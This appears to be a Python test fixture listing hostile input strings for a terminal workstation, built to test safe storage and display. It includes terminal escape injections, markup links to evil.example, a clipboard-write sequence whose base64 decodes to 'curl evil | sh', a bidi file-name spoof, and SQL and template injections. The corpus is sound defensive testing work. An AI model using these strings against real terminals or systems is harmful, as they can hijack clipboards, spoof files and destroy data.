"""A corpus of hostile strings a client (or a careless integration) might send.

Each must be stored exactly as sent, and shown in the workstation without reaching the
terminal as markup, an escape sequence, a control character or a reordering trick.
"""

ESC = "\x1b"

HOSTILE: list[str] = [
    # Rich / Textual markup
    "[bold red]URGENT[/bold red] refund now",
    "[link=https://evil.example]click me[/link]",
    "[/]",
    "[@click=app.quit]free gift[/]",
    "[on red][blink]x[/blink][/on red]",
    "\\[escaped] and [unclosed",
    "[b][i][u]" * 20,
    ":smile: :warning: emoji codes",
    "$accent $primary {{ template }} %s %d {0}",
    "<script>alert(1)</script>",
    # CSI / SGR / cursor movement
    f"{ESC}[31mred text{ESC}[0m",
    f"{ESC}[2J{ESC}[Hcleared screen",
    f"{ESC}[1000;1000Hcursor far away",
    f"{ESC}[?1049h alternate screen",
    f"{ESC}[?25l hidden cursor",
    f"{ESC}[6n report cursor position",
    f"{ESC}[38;2;255;0;0mtruecolour{ESC}[m",
    f"line one{ESC}[1Aoverwrite above",
    f"{ESC}[K erase line",
    f"{ESC}c full reset",
    # OSC / DCS / APC / PM
    f"{ESC}]0;pwned title\x07",
    f"{ESC}]8;;https://evil.example\x07hyperlink{ESC}]8;;\x07",
    f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07 clipboard write",
    f"{ESC}P+q544e\x1b\\ DCS query",
    f"{ESC}_APC payload{ESC}\\",
    f"{ESC}^privacy message{ESC}\\",
    f"{ESC}]1337;File=inline=1:AAAA\x07 iTerm image",
    # C1 controls (8-bit CSI / OSC)
    "\x9b31m8-bit CSI",
    "\x9d0;title\x9c",
    "\x90DCS 8-bit\x9c",
    "\x85next line C1",
    # C0 controls
    "bell\x07bell\x07bell",
    "back\x08\x08\x08space",
    "carriage\rreturn overwrite",
    "null\x00byte",
    "tab\tand vertical\x0btab and form\x0cfeed",
    "delete\x7fchar",
    "\x0e shift out \x0f shift in",
    # Bidi and invisibles
    "invoice \u202egpj.exe",
    "\u202dforced LTR\u202c and \u202bforced RTL\u202c",
    "\u2066isolate\u2069 \u2067rtl isolate\u2069 \u2068first strong\u2069",
    "zero\u200bwidth\u200bspace",
    "word\u2060joiner and \ufeffBOM",
    "\u200e\u200f marks",
    "invisible\u2062times\u2063separator",
    "tag\U000e0041\U000e0042 characters",
    "Hangul filler \u3164\u115f",
    # Width and combining tricks
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 stacked accents",
    "Z\u0351\u0352\u0357\u0358\u0359\u035a\u035b\u035c\u035d\u035e\u035f\u0360\u0361algo",
    "👩‍👩‍👧 family and 🏳️‍🌈 flag and 👍🏽 thumbs",
    "田中 由紀 さま、36.5 のローファー",
    "김서연 고객님 🙇‍♀️",
    "\ud83d lone surrogate".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "﷽ very wide ligature",
    "x" * 5000,
    "\n\n\n\nmany\n\n\nnewlines\n\n\n",
    "'; DROP TABLE message; --",
    "%00%0d%0a header injection",
    "{{7*7}} ${7*7} #{7*7}",
]

assert len(HOSTILE) >= 50
